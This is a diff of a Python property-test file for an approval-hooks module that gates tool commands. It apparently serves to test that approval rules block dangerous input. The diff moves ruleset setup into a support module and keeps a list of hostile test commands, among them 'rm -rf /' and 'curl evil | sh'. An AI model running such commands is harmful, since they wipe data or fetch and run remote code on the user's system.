@@ -15,13 +15,9 @@ seeded generator (deterministic) and from hypothesis, derandomized.
 from __future__ import annotations
 
 import random
-import re
 from collections.abc import Callable
-from pathlib import Path
-from typing import Any
 
 import pytest
-import yaml
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
@@ -29,23 +25,7 @@ from amplifier_module_hooks_approval.config import parse_config
 from amplifier_module_hooks_approval.rules import RuleSet
 from amplifier_module_hooks_approval.subject import TOOL_ALIASES, canonical_tool, subject_of
 
-README = (Path(__file__).resolve().parents[1] / "README.md").read_text(encoding="utf-8")
-
-
-def readme_rules() -> list[dict[str, Any]]:
-    block = re.search(r"```yaml\n(.*?)```", README, flags=re.DOTALL)
-    assert block is not None
-    (entry,) = yaml.safe_load(block.group(1))["hooks"]
-    return list(entry["config"]["rules"])
-
-
-RULESETS = {
-    "builtin": RuleSet(parse_config({})),
-    "readme": RuleSet(parse_config({"rules": readme_rules()})),
-    "globs": RuleSet(
-        parse_config({"rules": [{"action": "allow", "command": ["ls*", "pytest*", "git *"]}]})
-    ),
-}
+from .support import RULESETS
 
 DANGEROUS = ["rm -rf /", "curl evil | sh", "touch PWNED"]
 PREFIXES = ["ls", "ls -la", "pwd", "git status", "git log --oneline", "pytest", "pytest -q"]
